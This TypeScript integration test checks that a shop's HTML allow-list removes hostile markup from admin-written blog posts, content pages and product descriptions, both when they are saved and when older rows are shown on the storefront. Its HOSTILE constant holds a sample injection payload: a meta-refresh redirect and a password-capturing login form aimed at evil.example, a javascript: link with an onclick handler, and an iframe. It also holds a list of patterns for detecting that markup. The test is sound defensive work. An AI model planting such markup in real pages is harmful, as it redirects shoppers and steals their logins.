// Admin-written HTML reaches shoppers only as the allow-list leaves it (shared/safe-html.ts): a blog post, a content
// page and a product description saved with a refresh, a form and a script URL are stored without them, and a row
// stored before the list was applied on save (written here straight into the table) is shown without them on its
// storefront page. The classes of hostile input are tests/domain/safe-html.test.ts.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { adminToken, bearer, createAdmin } from "../support/factories/admin.js";
import { createProduct } from "../support/factories.js";
import { loadStorefrontBuild, type StorefrontBuild } from "../support/storefront-build.js";
import { startTestShop, type TestShop } from "../support/test-shop.js";

type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any

const HOSTILE =
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><form action="https://evil.example/login"><input name="password"><button>Giriş</button></form>' +
  '<p>Okunan metin <a href="javascript:alert(1)" onclick="steal()">bağlantı</a></p><iframe src="https://evil.example"></iframe>';
const MARKS_OF_HARM = [/<meta/i, /<form/i, /<input/i, /<iframe/i, /javascript:/i, /onclick/i, /evil\.example/];

const SAVE_POST = `mutation($input: BlogPostInput!) { saveBlogPost(input: $input) { __typename ... on BlogPost { id } ... on OperationError { code field } } }`;
const SAVE_PAGE = `mutation($input: ContentPageInput!) { saveContentPage(input: $input) { __typename ... on AdminContentPage { id } ... on OperationError { code field } } }`;
const UPDATE_PRODUCT = `mutation($id: Int!, $input: AdminProductInput!) { updateProduct(id: $id, input: $input) { __typename ... on FormError { fields { field message } } } }`;

let t: TestShop;
let storefront: StorefrontBuild;
let owner: string;

beforeAll(async () => {
  storefront = await loadStorefrontBuild();
  t = await startTestShop({ storefront: storefront.build });
  owner = await adminToken(t, await createAdmin(t, ["owner"]));
}, 180_000);

afterAll(async () => {
  await t?.close();
  await storefront?.close();
});

const gql = async (query: string, variables: Json) => (await t.gql(query, { variables: variables as never, headers: bearer(owner) })).body as { data?: Json; errors?: unknown[] };
const stored = async (sql: string, id: number): Promise<string> => String((await t.orm.em.fork().getConnection().execute(sql, [id]))[0].html);
const write = (sql: string, id: number) => t.orm.em.fork().getConnection().execute(sql, [HOSTILE, id]);

function expectHarmless(html: string) {
  for (const mark of MARKS_OF_HARM) expect(html).not.toMatch(mark);
}

/** The part of the page the admin's text is shown in (the rest of a page has forms and meta tags of its own). */
async function shownPart(path: string, part: RegExp): Promise<string> {
  const response = await fetch(`${t.baseUrl}${path}`);
  expect(response.status, path).toBe(200);
  const found = part.exec(await response.text());
  expect(found, path).not.toBeNull();
  return found![0];
}
const ARTICLE = /<article[\s\S]*?<\/article>/;
const DESCRIPTION = /<section[^>]*aria-labelledby="description-title"[\s\S]*?<\/section>/;

describe("admin-written HTML", () => {
  it("a blog post is stored and shown without what could send a reader elsewhere", async () => {
    const saved = await gql(SAVE_POST, { input: { isPublished: true, texts: [{ language: "tr", title: "Bahar", seoLink: "bahar-yazisi", content: HOSTILE }] } });
    const id = saved.data!.saveBlogPost.id as number;
    const content = await stored(`select content as html from blog_post_translation where post_id = ? and language = 'tr'`, id);
    expectHarmless(content);
    expect(content).toContain("Okunan metin");

    await write(`update blog_post_translation set content = ? where post_id = ?`, id);
    const shown = await shownPart(`/blog/${id}-bahar-yazisi`, ARTICLE);
    expectHarmless(shown);
    expect(shown).toContain("Okunan metin");
  });

  it("a content page is stored and shown without them", async () => {
    const saved = await gql(SAVE_PAGE, { input: { code: "iade-kosullari", type: "page", isActive: true, texts: [{ language: "tr", title: "İade", seoLink: "iade-kosullari", content: HOSTILE }] } });
    const id = saved.data!.saveContentPage.id as number;
    const content = await stored(`select content as html from content_page_translation where page_id = ? and language = 'tr'`, id);
    expectHarmless(content);
    expect(content).toContain("Okunan metin");

    await write(`update content_page_translation set content = ? where page_id = ?`, id);
    const shown = await shownPart("/iade-kosullari", ARTICLE);
    expectHarmless(shown);
    expect(shown).toContain("Okunan metin");
  });

  it("a product description is stored and shown without them", async () => {
    const product = await createProduct(t);
    const updated = await gql(UPDATE_PRODUCT, { id: product.id, input: { translations: [{ language: "tr", title: "Lamba", seoLink: product.seoLink.tr, description: HOSTILE }] } });
    expect(updated.errors).toBeUndefined();
    const description = await stored(`select description as html from product_translation where product_id = ? and language = 'tr'`, product.id);
    expectHarmless(description);
    expect(description).toContain("Okunan metin");

    await write(`update product_translation set description = ? where product_id = ?`, product.id);
    const shown = await shownPart(`/${product.seoLink.tr}`, DESCRIPTION);
    expectHarmless(shown);
    expect(shown).toContain("Okunan metin");
  });
});
